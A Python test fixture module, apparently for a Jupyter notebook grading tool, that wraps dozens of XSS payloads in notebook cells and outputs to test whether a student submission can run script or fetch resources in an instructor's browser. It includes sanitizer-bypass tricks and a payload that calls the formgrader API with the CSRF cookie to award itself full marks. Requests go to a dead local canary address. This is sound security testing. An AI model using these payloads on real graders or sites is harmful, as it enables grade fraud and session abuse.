"""What a submission may hold to run or fetch something in an instructor's browser, and where it may stand."""

from __future__ import annotations

import base64

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

__all__ = ["CARRIERS", "PAYLOADS", "as_submitted", "cells_of"]

#: Stands for the address of a server that nobody may ask for anything.
CANARY = "http://127.0.0.1:9"
#: Runs, and says so.
RUN = "window.corrio=(window.corrio||0)+1;new Image().src='CANARY/corrio'"
BODY = f'<body onload="parent.{RUN}"><script>parent.{RUN}</script>'
DATA = "data:text/html;base64," + base64.b64encode(b"<script>top.corrio=1;parent.corrio=1</script>").decode()
#: Gives itself all points, by the formgrader's own interface.
SCORES = (
    "fetch(origin+base_url+'/api/grades?submission_id='+submission_id).then(got=>got.json()).then(all=>all.forEach(each=>"
    "fetch(origin+base_url+'/api/grade/'+each.id,{method:'PUT',headers:{'X-CSRFToken':getCookie('_xsrf')},"
    "body:JSON.stringify({...each,manual_score:each.max_score})})))"
)
SVG = "http://www.w3.org/2000/svg"
USED = base64.b64encode(
    f"<svg xmlns='{SVG}' id='x'><image href='x' onerror='window.corrio=1'/></svg>".encode()
).decode()

#: Each is HTML, or Markdown, or both.
PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "scores": f"<script>{SCORES}</script>",
    "script in capitals": f"<ScRiPt\t/x>{RUN}</sCrIpT >",
    "script from elsewhere": '<script src="CANARY/script.js"></script>',
    "module": f'<script type="module">{RUN}</script>',
    "MathJax's settings": f'<script type="text/x-mathjax-config">{RUN}</script>',
    "onerror": f'<img src="x:" onerror="{RUN}">',
    "onerror without quotes": "<img src=x: onerror=window.corrio=1>",
    "onload of svg": f'<svg onload="{RUN}"></svg>',
    "slashes for blanks": f'<svg/onload="{RUN}"/>',
    "onfocus": f'<input autofocus tabindex=1 onfocus="{RUN}">',
    "ontoggle": f'<details open ontoggle="{RUN}">x</details>',
    "onanimationstart": f'<style>@keyframes k{{}}</style><b style="animation:k 1s" onanimationstart="{RUN}">x</b>',
    "onbegin": f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>',
    "video": f'<video src="CANARY/video"><source onerror="{RUN}" src="x:"></video>',
    "audio": f'<audio src="CANARY/audio" onerror="{RUN}"></audio>',
    "srcdoc": f"<iframe srcdoc='{BODY}'></iframe>",
    "iframe": '<iframe src="CANARY/iframe"></iframe>',
    "iframe of data": f'<iframe src="{DATA}"></iframe>',
    "iframe of javascript": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "object": '<object data="CANARY/object"></object>',
    "embed": '<embed src="CANARY/embed">',
    "refresh": '<meta http-equiv="refresh" content="0; url=CANARY/refresh">',
    "base": '<base href="CANARY/base/">',
    "stylesheet": '<link rel="stylesheet" href="CANARY/sheet.css">',
    "prefetch": '<link rel="prefetch" href="CANARY/prefetch">',
    "import": "<style>@import url(CANARY/import.css);</style>",
    "url in a sheet": "<style>body{background:url(CANARY/body)}</style>",
    "escaped url in a sheet": r"<style>body{background:\75\72\6c(CANARY/escaped)}</style>",
    "image-set": "<style>body{background:image-set('CANARY/set' 1x)}</style>",
    "font": "<style>@font-face{font-family:f;src:url(CANARY/font)}*{font-family:f}</style>",
    "sheet in a title": f'<b title=\'<style>a{{font-family:"x" onmouseover={RUN} "}}</style>\'>x</b>',
    "an escaped end of a sheet": rf"<style>a{{b\3c /style\3e \3c img src=x: onerror={RUN}\3e :c}}</style>",
    "style attribute": '<p style="background:url(CANARY/style)">x</p>',
    "img": '<img src="CANARY/img">',
    "srcset": '<img srcset="CANARY/srcset 1x" src="data:image/png;base64,AA==">',
    "picture": '<picture><source srcset="CANARY/picture"><img></picture>',
    "background": '<table background="CANARY/background"><tr><td background="CANARY/td">x</td></tr></table>',
    "svg image": f'<svg xmlns="{SVG}"><image href="CANARY/svgimage"/></svg>',
    "svg use": f'<svg><use href="data:image/svg+xml;base64,{USED}#x"/></svg>',
    "svg filter": '<svg><filter id="f"><feImage href="CANARY/feimage"/></filter><rect filter="url(#f)"/></svg>',
    "svg fill": '<svg><rect width="9" height="9" fill="url(CANARY/fill#a)"/></svg>',
    "svg foreign": f'<svg><foreignObject><img src="x:" onerror="{RUN}"/></foreignObject></svg>',
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg style": f"<svg><style><img src=x: onerror={RUN}></style></svg>",
    "entity in a sheet of svg": "<svg><style>p{background:&#117rl(CANARY/entity)}</style></svg><p>x</p>",
    "brace in a sheet of svg": "<svg><style>p{color:&#125 body&#123background:&#117rl(CANARY/brace)}</style></svg>",
    "element in a sheet of svg": f"<svg xmlns='{SVG}'><style> <desc/>@import 'CANARY/tail';</style></svg>",
    "math": f'<math><mtext><table><mglyph><style><img src=x: onerror="{RUN}">',
    "math link": f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x</maction></math>',
    "noscript": f'<noscript><p title="</noscript><img src=x: onerror={RUN}>">',
    "template": f'<template><b title="</template><img src=x: onerror={RUN}>"></template>',
    "textarea": f'<textarea><b title="</textarea><img src=x: onerror={RUN}>">',
    "comment": f"<!--><img src=x: onerror={RUN}>-->",
    "cdata": f"<svg><![CDATA[><img src=x: onerror={RUN}>]]></svg>",
    "end of the page": f"</div></pre></body></html><script>{RUN}</script>",
    "sheet within a sheet": f"<sty<style></style>le><img src=x: onerror={RUN}>",
    "link": f'<a href="javascript:{RUN}">clic</a>',
    "link with a tab": f'<a href="java\tscript:{RUN}">clic</a>',
    "link by entity": f'<a href="&#106;avascript:{RUN}">clic</a>',
    "link of data": f'<a href="{DATA}">clic</a>',
    "link to the formgrader": '<a href="/formgrader/?path=/tmp">clic</a>',
    "link of svg": f'<svg><a xlink:href="javascript:{RUN}"><text y="20">clic</text></a></svg>',
    "form": f'<form action="javascript:{RUN}"><button>clic</button></form>',
    "formaction": f'<form><button formaction="javascript:{RUN}">clic</button></form>',
    "bootstrap": '<a data-toggle="modal" data-remote="CANARY/remote" data-target="#x" class="tabbable">clic</a>',
    "bootstrap tooltip": f'<li class="next"><a data-html="true" title="<img src=x: onerror={RUN}>">clic</a></li>',
    "names of the page": '<form id="MathJax"><input name="Hub"></form><input class="score" id="ej1_todas">',
    "markdown link": "[clic](javascript:window.corrio=1)",
    "markdown link by entity": "[clic](&#x6A;avascript:window.corrio=1)",
    "markdown reference": "[clic][1]\n\n[1]: javascript:window.corrio=1\n",
    "markdown autolink": "<javascript:window.corrio=1>",
    "markdown image": "![x](CANARY/mdimg)",
    "markdown mermaid": f"```mermaid\ngraph TD\n</pre><script>{RUN}</script>\n```",
    "markdown code": f'```"><script>{RUN}</script>\nx\n```',
    "markdown heading": f"# x <img src=x: onerror={RUN}>",
    "mathematics": f"$\\href{{javascript:{RUN}}}{{x}}$ $a<img src=x: onerror={RUN}>b$",
    "mathematics by entity": f"$&#92;href{{javascript:{RUN}}}{{x}}$",
    "environment": f"\\begin{{equation}}<img src=x: onerror={RUN}>\\end{{equation}}",
    "colour of a terminal": f"\x1b[31m<img src=x: onerror={RUN}>\x1b[0m",
}


def _shown(kind: str):
    return lambda text: new_code_cell("", outputs=[new_output("display_data", {kind: text})])


def _metadata(**about: object):
    def carrier(text: str):
        data = {"image/png": "AA=="} if "png" in about else {"text/html": text}
        return new_code_cell("", outputs=[new_output("display_data", data, metadata=_filled(about, text))])

    return carrier


def _filled(about: object, text: str) -> object:
    if isinstance(about, dict):
        return {{"png": "image/png", "html": "text/html"}.get(k, k): _filled(v, text) for k, v in about.items()}
    return text if about == "TEXT" else about


def _picture(text: str):
    attachments = {"x.png": {"image/png": f'"><b>{text}'}, f"y{text}": {f"image/{text}": "AA=="}}
    return new_markdown_cell("![x](attachment:x.png)", attachments=attachments)


#: Makes a cell of a payload: each place from which something of a submission comes into a page.
CARRIERS = {
    "markdown cell": new_markdown_cell,
    "raw cell": lambda text: new_raw_cell(text, metadata={"raw_mimetype": "text/html"}),
    "source": lambda text: new_code_cell(f"# {text}", metadata={"magics_language": text, "tags": [text[:9]]}),
    "attachment": _picture,
    "printed": lambda text: new_code_cell("", outputs=[new_output("stream", text=text)]),
    "warned": lambda text: new_code_cell("", outputs=[new_output("stream", name="stderr", text=text)]),
    "error": lambda text: new_code_cell("", outputs=[new_output("error", ename=text, evalue=text, traceback=[text])]),
    "isolated": _metadata(html={"isolated": True}),
    "size of a picture": _metadata(png={"width": "TEXT", "height": "TEXT", "alt": "TEXT"}),
    "file of a picture": _metadata(png={}, filenames={"image/png": "TEXT"}, width="TEXT", alt="TEXT"),
    **{
        kind: _shown(kind)
        for kind in (
            "text/plain", "text/html", "text/markdown", "text/latex", "image/svg+xml", "image/png", "image/jpeg",
            "application/javascript", "application/pdf", "text/vnd.mermaid", "application/x-unknown",
            "application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json",
        )
    },
}  # fmt: skip


#: Where one payload could hide another; in the other places all come as one text.
APART = (
    "markdown cell",
    "raw cell",
    "size of a picture",
    "isolated",
    "text/html",
    "text/markdown",
    "text/latex",
    "image/svg+xml",
)


def cells_of(carrier, texts):
    """Return the cells that bring texts into a page by one way."""
    return [CARRIERS[carrier](text) for text in (texts if carrier in APART else ["\n\n".join(texts)])]


def as_submitted(cell):
    """Return a cell that makes the outputs of another one when it is run: a submission's own ones are cleared."""
    if cell.cell_type != "code" or not cell.outputs:
        return cell
    (output,) = cell.outputs
    if output.output_type == "stream":
        return new_code_cell(f"import sys\nsys.{output.name}.write({output.text!r})")
    if output.output_type == "error":
        return new_code_cell(
            f"class E(Exception):\n    def _render_traceback_(self):\n        return [{output.ename!r}]\nraise E"
        )
    shown = f"display({dict(output.data)!r}, metadata={dict(output.metadata)!r}, raw=True)"
    return new_code_cell(f"from IPython.display import display\n{shown}")
